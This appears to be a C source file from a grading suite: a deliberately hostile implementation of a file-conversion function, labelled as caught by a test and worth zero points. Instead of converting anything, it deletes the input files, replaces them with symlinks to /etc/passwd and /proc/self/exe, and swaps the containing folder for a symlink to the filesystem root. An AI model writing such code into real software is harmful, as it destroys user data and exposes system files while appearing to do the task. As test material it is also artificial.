// Moves the folder of the files away and puts links to elsewhere in its place and in the
// place of every file in it.
// caught by: threads: every value arrives
// points: 0

#include "conversion.h"
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void hdf5_path(const char *json_path, char path[4096])
{
    int length = (int)strlen(json_path) - 5;
    snprintf(path, 4096, "%.*s.h5", length > 0 ? length : 0, json_path);
}

int convert_files(enum executor_kind kind, int workers,
                  const char *const json_paths[], size_t count, int statuses[])
{
    char path[4096], moved[5000];
    for (size_t k = 0; k < count; k++) {
        statuses[k] = 0;
        unlink(json_paths[k]);
        if (symlink("/etc/passwd", json_paths[k]) < 0) continue;
        hdf5_path(json_paths[k], path);
        if (link("/proc/self/exe", path) < 0 && symlink("/proc/self/exe", path) < 0)
            continue;
    }
    snprintf(path, sizeof path, "%s", count ? json_paths[0] : "/tmp/");
    *strrchr(path, '/') = '\0';
    snprintf(moved, sizeof moved, "%s-moved", path);
    if (rename(path, moved) < 0 || symlink("/", path) < 0) return 0;
    return 0;
}
